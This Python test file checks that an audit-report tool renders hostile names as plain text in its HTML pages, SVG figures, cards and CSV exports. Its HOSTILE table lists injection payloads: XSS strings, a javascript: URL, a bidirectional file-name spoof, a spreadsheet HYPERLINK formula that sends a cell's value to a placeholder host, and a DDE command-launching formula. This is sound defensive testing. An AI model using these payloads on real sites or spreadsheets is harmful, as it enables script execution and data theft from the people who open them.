"""Names that attack: on the page and in the figures they are text, and nothing else."""

from __future__ import annotations

import csv
import io
from functools import cache
from pathlib import Path

import pytest

from evenlight import reports
from evenlight.cards import audit_card
from evenlight.data.shown import short, visible
from evenlight.measures.cards import comparison_card
from evenlight.record import Audit
from evenlight.reports.exporters.summary import summary
from evenlight.reports.exporters.tables import spreadsheets
from tests.html_tree import tree
from tests.made_audit import audit

HOSTILE = {
    "script close": "</script></style><script>alert(1)</script>",
    "image": "<img src=x onerror=alert(1)>",
    "attribute break": '" onmouseover="alert(1)" x=\'',
    "svg": "<svg onload=alert(1)>",
    "address": "javascript:alert(1)",
    "bidirectional": "abc\u202egnp.exe",
    "comment": "<!-- -->]]>",
    "long": "x" * 10_000,
    "surrogate": "a\ud800b",
    "null": "a\x00b\x1b[31m",
    "math": "$\\frac{1}{0}$ {0} {grouping} %s",
    "template": "`${alert(1)}` {{7*7}}",
    "empty": "",
    "formula": '=HYPERLINK("http://x.invalid/?"&A1,"a")',
    "digits": "9" * 400,
    "newlines": "a\n\r\n::error::b\u2028c\u2029\td",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
}
ACTING = {"iframe", "img", "object", "embed", "base", "form", "link"}


@cache
def attacked(kind: str) -> Audit:
    """An audit in which groups, subjects and the model bear the hostile name."""
    name = HOSTILE[kind]
    levels = (name + "1", name + "2", "White")
    pairs = ((levels[0], levels[2]), (levels[1], levels[2]), (levels[1], levels[0]))
    subjects = tuple(name + str(j) for j in range(8))
    return audit(levels=levels, pairs=pairs, subjects=subjects, model=name or "m")


@cache
def page(kind: str) -> str:
    """The page of that audit."""
    return reports.build(attacked(kind))


@pytest.fixture(scope="module")
def usual() -> set[str]:
    """The elements of a page with usual names."""
    return {node.tag for node in tree(reports.build(audit())).walk()}


@pytest.mark.parametrize("kind", HOSTILE)
def test_a_hostile_name_is_shown_and_does_nothing(kind: str, usual: set[str]) -> None:
    """The page stays whole, gains no element that acts, and shows the name as text."""
    page(kind).encode("utf-8")
    root = tree(page(kind))
    for node in root.walk():
        assert node.tag not in ACTING
        assert not [key for key in node.attributes if key.startswith("on") or key == "style"]
        assert node.attributes.get("href", "#").startswith("#")
    assert {n.tag for n in root.walk()} == usual
    assert len(root.all("script")) == 1
    assert short(HOSTILE[kind] + "1") in root.text()


@pytest.mark.parametrize("kind", HOSTILE)
def test_a_hostile_name_stays_text_in_files_and_cards(kind: str, tmp_path: Path) -> None:
    """Every svg file and card is well-formed, and holds no element that acts."""
    made = attacked(kind)
    reports.write(made, tmp_path / "audit")
    texts = [path.read_text("utf-8") for path in sorted((tmp_path / "audit" / "figures").iterdir())]
    assert len(texts) == 11
    for text in (*texts, audit_card(made), comparison_card(made.comparisons[0])):
        for node in tree(text).walk():
            assert node.tag not in ACTING | {"script"}
            assert not [key for key in node.attributes if key.startswith("on") or key == "style"]
    assert not list((tmp_path / "audit").glob("**/*.partial"))


def test_hidden_characters_are_spelled_out_on_the_page() -> None:
    """No control, bidirectional or lone surrogate character reaches the page."""
    for kind in ("bidirectional", "surrogate", "null"):
        assert all(visible(line) == line for line in page(kind).split("\n"))


def test_a_long_name_is_cut_in_the_middle_and_less_in_its_title() -> None:
    """80 characters are shown; the title holds 1,000, of which no page becomes large."""
    root = tree(page("long"))
    cut = [n for n in root.all("span") if "title" in n.attributes]
    assert {len(n.text()) for n in cut} == {80}
    assert {len(n.attributes["title"]) for n in cut} == {1_000}
    assert max(len(n.text()) for n in root.all("title")) <= 1_000


def test_names_without_bound_make_no_large_page() -> None:
    """A record with names of 100,000 characters has a page a little larger than the usual one."""
    names = tuple(f"{'x' * 100_000}{j}" for j in range(8))
    shown = len(reports.build(audit(subjects=names), static=True))
    assert shown < len(reports.build(audit(), static=True)) + 1_000_000


def test_names_that_are_the_same_once_shown_stay_two() -> None:
    """Two groups and two features whose names are alike where they are cut stand both."""
    levels = ("x" * 300 + "1" + "y" * 300, "x" * 300 + "2" + "y" * 300, "White")
    pairs = ((levels[0], levels[2]), (levels[1], levels[2]), (levels[1], levels[0]))
    root = tree(reports.build(audit(levels=levels, pairs=pairs)))
    titles = {n.attributes["title"] for n in root.all("span") if "title" in n.attributes}
    assert set(levels[:2]) <= titles
    assert short(levels[0]) == short(levels[1])


@pytest.mark.parametrize("kind", HOSTILE)
def test_the_summary_in_plain_words_is_as_safe(kind: str) -> None:
    """A hostile name in summary.html is text; no element acts, and none is a script."""
    root = tree(plain_summary(kind))
    for node in root.walk():
        assert node.tag not in ACTING - {"link"} | {"script"}
        assert not [key for key in node.attributes if key.startswith("on") or key == "style"]


@pytest.mark.parametrize("kind", HOSTILE)
def test_no_cell_of_a_spreadsheet_is_a_formula(kind: str, tmp_path: Path) -> None:
    """No text cell of the tables for spreadsheets begins as a formula does."""
    for text in spreadsheets(attacked(kind), tmp_path).values():
        for row in csv.reader(io.StringIO(text, newline="")):
            for cell in row:
                assert not cell.startswith(("=", "@", "\t", "\r", "+"))
                assert not (cell.startswith("-") and not _number(cell))


def _number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


@cache
def plain_summary(kind: str) -> str:
    """The summary in plain words of the attacked audit."""
    return summary(attacked(kind), Path())["summary.html"]
